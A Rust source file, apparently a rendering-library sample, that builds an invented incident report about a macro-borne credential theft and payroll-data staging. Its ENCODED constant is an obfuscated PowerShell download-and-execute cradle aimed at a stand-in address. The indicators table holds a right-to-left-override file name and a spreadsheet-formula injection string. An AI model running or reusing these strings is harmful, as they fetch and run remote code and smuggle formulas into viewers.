//! A report such as an incident leaves behind, invented from end to end; the example draws it, the tests hold it
//! against its snapshots.

use jiff::{SignedDuration, Timestamp};
use paper::chart::{Bar, Lane, Moment, Phase, bars, phases, timeline};
use paper::inline::{badge, link, strong, text};
use paper::{Align, Block, Callout, CalloutKind, Column, Document, Figure, Marking, Rich, Table, Tone};

const LOADER: &str = "5b0f1c7be2a94d6c8f13e9a7702d4c18bb6a0e35d9f24c71806e5ad3f7c2b914";
const ENCODED: &str = "powershell.exe -nop -w hidden -enc SQBFAFgAKABOAGUAdwAtAE8AYgBqAGUAYwB0ACAATgBlAHQALgBXAGUAYgBDAGwAaQBlAG4AdAApAC4ARABvAHcAbgBsAG8AYQBkAFMAdAByAGkAbgBnACgAJwBoAHQAdABwADoALwAvADEAOQA4AC4ANQAxAC4AMQAwADAALgAyADMALwBhACcAKQA=";

fn at(time: &str) -> Timestamp {
    time.parse().unwrap_or(Timestamp::UNIX_EPOCH)
}

/// What happened, in the order in which it did.
const EVENTS: [(&str, Lane, &str, &str); 16] = [
    ("2026-11-17T08:41:12Z", Lane::Adversary, "FIN-WS-014", "Macro opened from mail"),
    ("2026-11-17T08:41:44Z", Lane::Adversary, "FIN-WS-014", "Encoded PowerShell started by WINWORD.EXE"),
    ("2026-11-17T08:43:02Z", Lane::Adversary, "FIN-WS-014", "Loader written to the public folder"),
    ("2026-11-17T09:12:30Z", Lane::Adversary, "FIN-WS-014", "Memory of LSASS read"),
    ("2026-11-17T09:30:05Z", Lane::Response, "SOC", "Alert raised: credential access"),
    ("2026-11-17T09:38:00Z", Lane::Response, "M. Okafor", "Incident declared"),
    ("2026-11-17T09:55:41Z", Lane::Adversary, "FS-02", "Log-on with svc_backup"),
    ("2026-11-17T10:04:00Z", Lane::Response, "L. Brandt", "Workstation isolated"),
    ("2026-11-17T10:21:17Z", Lane::Adversary, "FS-02", "Archive of payroll share made"),
    ("2026-11-17T10:35:00Z", Lane::Response, "L. Brandt", "Account svc_backup disabled"),
    ("2026-11-17T11:20:00Z", Lane::Response, "Network team", "Egress to 198.51.100.23 blocked"),
    ("2026-11-17T14:00:00Z", Lane::Response, "M. Okafor", "Containment confirmed"),
    ("2026-11-18T09:00:00Z", Lane::Response, "A. Silva", "Workstation rebuilt"),
    ("2026-11-18T16:30:00Z", Lane::Response, "A. Silva", "Secrets of services rotated"),
    ("2026-11-19T10:00:00Z", Lane::Response, "M. Okafor", "Systems back in service"),
    ("2026-11-20T15:00:00Z", Lane::Response, "M. Okafor", "Incident closed"),
];

/// The sample with a timeline table of about `rows` lines more, to fill as many pages as are wanted.
pub fn report(rows: usize) -> Document {
    let mut report = Document::new("Credential theft and staging of payroll data");
    report.subtitle = "Incident report INC-2026-0042".into();
    report.organisation = "Meridian Freight GmbH · Security Incident Response".into();
    report.marking = Some(Marking::new("TLP:AMBER"));
    report.prepared_by = "Mina Okafor, incident manager".into();
    report.date = Some(at("2026-11-24T06:42:00Z"));
    report
        .cover_fact("Severity", badge("High", Tone::Danger))
        .cover_fact(
            "Status",
            Rich::new().badge("Closed", Tone::Success).text(" on 20 November 2026, 15:00 UTC"),
        )
        .cover_fact("Type", "Unauthorised access")
        .cover_fact("Commander", "Mina Okafor")
        .cover_fact("Detected", "17 November 2026, 09:30 UTC, by rule “LSASS memory read by unusual process”")
        .cover_fact("Affected", "2 hosts, 2 accounts, 1 file share");
    summary(&mut report);
    what_happened(&mut report, rows);
    findings(&mut report);
    closing(&mut report);
    report
}

fn summary(report: &mut Document) {
    report
        .heading(1, "Summary")
        .paragraph(
            "On 17 November 2026 an employee of Finance opened a document that came by mail. Its macro started a \
             hidden PowerShell, which fetched a loader. Half an hour later the adversary read credentials from \
             memory and used the account svc_backup to reach the file server FS-02, where an archive of the payroll \
             share was made. The archive did not leave the network: the way out was blocked before any transfer.",
        )
        .callout(
            Callout::new(CalloutKind::Warning, "Decision needed")
                .paragraph(Rich::new().text("The service account ").code("svc_backup").text(
                    " still needs rights on seven servers. Replacing it by managed accounts needs a change window; \
                     please approve CHG-3310 by 1 December.",
                )),
        )
        .heading(2, "Severity and why")
        .facts([
            ("Functional impact", Rich::new().badge("Medium", Tone::Warning).text(" One workstation lost for a day; payroll ran on time.")),
            ("Information impact", Rich::new().badge("High", Tone::Danger).text(" Payroll records of 214 employees were collected, not taken out.")),
            ("Recoverability", Rich::new().badge("Regular", Tone::Success).text(" Restored with own means within 50 hours.")),
        ])
        .heading(2, "How long each phase took")
        .figure(Figure::new(
            phases(
                "Phases of the response",
                &[
                    Phase::new("Detection", SignedDuration::from_mins(49)),
                    Phase::new("Assessment", SignedDuration::from_mins(26)),
                    Phase::new("Containment", SignedDuration::from_mins(236)),
                    Phase::new("Eradication", SignedDuration::from_mins(1590)),
                    Phase::new("Recovery", SignedDuration::from_mins(1050)),
                ],
            ),
            "Phases, to scale",
        ));
}

fn what_happened(report: &mut Document, rows: usize) {
    let moments: Vec<Moment> =
        EVENTS.iter().map(|(time, lane, _, what)| Moment::new(at(time), *lane, *what)).collect();
    let early: Vec<Moment> = moments.iter().take(12).cloned().collect();
    report
        .heading(1, "Timeline")
        .paragraph("All times are UTC. Entries marked “adversary” come from logs, those marked “response” from the people named.")
        .figure(Figure::new(timeline("The first hours", &early), "The first hours: adversary above, response below"));
    let mut table = Table::new([
        Column::new("Time").mono(),
        Column::new("Lane"),
        Column::new("Where or who"),
        Column::new("What"),
    ])
    .caption("Timeline of the incident");
    for (time, lane, place, what) in EVENTS {
        let lane = match lane {
            Lane::Adversary => badge("adversary", Tone::Danger),
            Lane::Response => badge("response", Tone::Info),
        };
        let what = if what.starts_with("Encoded") {
            Rich::new().text(what).text(": ").code(ENCODED)
        } else {
            what.into()
        };
        table.push([
            text(time.replace('T', " ").replace('Z', "")).into(),
            Rich::from(lane),
            place.into(),
            what,
        ]);
    }
    for number in 0..rows {
        let time =
            at("2026-11-17T08:45:00Z") + SignedDuration::from_secs(i64::try_from(number).unwrap_or(0) * 97);
        table.push([
            Rich::from(time.strftime("%Y-%m-%d %H:%M:%S").to_string()),
            badge("adversary", Tone::Danger).into(),
            format!("FIN-WS-{:03}", number % 40).into(),
            Rich::new()
                .text("Process started by explorer.exe: ")
                .code(format!(r"C:\Users\Public\Libraries\update-{number:04}.exe --quiet --target \\FS-02\payroll$\2026\{number}")),
        ]);
    }
    report.table(table);
    let mut actions = Table::new(["#", "Task", "Role", "Done by", "Took"]).caption("Actions taken");
    for (number, task, role, person, took) in [
        ("1", "Isolate FIN-WS-014 from the network, keep it powered", "Responder", "L. Brandt", "26 min"),
        (
            "2",
            "Take a memory image and a disk image before anything is changed",
            "Forensics",
            "A. Silva",
            "2 h 10 min",
        ),
        ("3", "Disable svc_backup and end its sessions", "Identity", "L. Brandt", "31 min"),
        ("4", "Block 198.51.100.23 and cdn-update.example at the proxy", "Network", "Network team", "45 min"),
        ("5", "Rebuild the workstation from the golden image", "Recovery", "A. Silva", "6 h"),
    ] {
        actions.push([number, task, role, person, took]);
    }
    report.heading(1, "Actions").table(actions);
    report.heading(2, "Command as recorded").code(format!(
        "{ENCODED}\n\tParentImage: C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE"
    ));
}

fn findings(report: &mut Document) {
    report.heading(1, "Evidence");
    report
        .paragraph("Each item was hashed when taken and each time it changed hands; all hashes still agree.");
    report.table(
        Table::new([
            Column::new("Item"),
            Column::new("SHA-256").mono(),
            Column::new("Bytes").align(Align::Right),
            Column::new("Taken by"),
        ])
        .caption("Evidence items")
        .row(["EV-1 Security.evtx of FIN-WS-014", LOADER, "20,975,616", "A. Silva"])
        .row([
            "EV-2 memory image of FIN-WS-014",
            &LOADER.chars().rev().collect::<String>(),
            "17,179,869,184",
            "A. Silva",
        ])
        .row(["EV-3 mail with attachment", &LOADER.replace('5', "a"), "184,320", "M. Okafor"]),
    );
    report.heading(2, "Chain of custody").table(
        Table::new(["When", "Item", "From", "To", "Why"])
            .row([
                "17 Nov 2026 10:40",
                "EV-1, EV-2",
                "A. Silva",
                "Evidence safe",
                "Acquisition, sealed bag 0117",
            ])
            .row(["18 Nov 2026 08:15", "EV-2", "Evidence safe", "A. Silva", "Analysis of a working copy"]),
    );
    report.heading(1, "Indicators").table(
        Table::new([
            Column::new("Kind"),
            Column::new("Value").mono(),
            Column::new("First seen"),
            Column::new("Verdict"),
        ])
        .caption("Indicators of compromise")
        .row([text("SHA-256"), text(LOADER), text("17 Nov 08:43"), badge("malicious", Tone::Danger)])
        .row([text("Address"), text("198.51.100.23"), text("17 Nov 08:41"), badge("malicious", Tone::Danger)])
        .row([
            text("Domain"),
            text("cdn-update.example"),
            text("17 Nov 08:41"),
            badge("suspicious", Tone::Warning),
        ])
        .row([
            text("File name"),
            text("Invoice_\u{202E}xcod.exe"),
            text("17 Nov 08:40"),
            badge("malicious", Tone::Danger),
        ])
        .row([
            text("Subject"),
            text("=HYPERLINK(\"http://evil.example\",\"pay\") | **urgent** <b>now</b>"),
            text("17 Nov 08:40"),
            badge("malicious", Tone::Danger),
        ]),
    );
    let techniques = [
        ("T1059.001 PowerShell", 41),
        ("T1003.001 LSASS Memory", 12),
        ("T1566.001 Spearphishing Attachment", 1),
        ("T1078 Valid Accounts", 9),
        ("T1560 Archive Collected Data", 3),
    ];
    let shown: Vec<Bar> = techniques.iter().map(|(name, count)| Bar::new(*name, *count)).collect();
    report
        .heading(1, "ATT&CK techniques")
        .figure(Figure::new(bars("Detections by technique", &shown), "Matched events by technique"))
        .paragraph([
            text("Names and numbers follow "),
            link("MITRE ATT&CK", "https://attack.mitre.org/techniques/T1059/001/"),
            text("."),
        ]);
}

fn closing(report: &mut Document) {
    report
        .heading(1, "Impact and outcome")
        .paragraph([strong("Outcome. "), text("The adversary was put out within five hours of detection; nothing was found to have left the network.")])
        .callout(Callout::new(CalloutKind::Success, "Obligations").paragraph("The data protection officer judged that no notice under Article 33 GDPR is due; the reasons are on file."))
        .heading(1, "Lessons")
        .bullets([
            "Macros from the internet were allowed for Finance by an exception that nobody owned.",
            "The alert took 18 minutes from event to eye; the rota had a gap at shift change.",
            "Isolation by one click worked, and saved the evidence in memory.",
        ])
        .quote("We had the picture before we had the meeting. That was new. (the commander, at the review)")
        .heading(1, "Recommendations")
        .steps([
            Rich::new().strong("Take the macro exception back").text(" by 1 December. Owner: workplace team."),
            Rich::new().text("Replace ").code("svc_backup").text(" by managed accounts (CHG-3310)."),
            Rich::from("Close the gap in the rota and rehearse it in the January exercise."),
        ])
        .push(Block::Heading { level: 2, text: "Approval".into() })
        .paragraph("With their signatures the undersigned accept this report and its recommendations.")
        .signatures([("Incident manager", "Mina Okafor"), ("Chief information security officer", "Dr. Jonas Weidner"), ("Data protection officer", "")]);
}
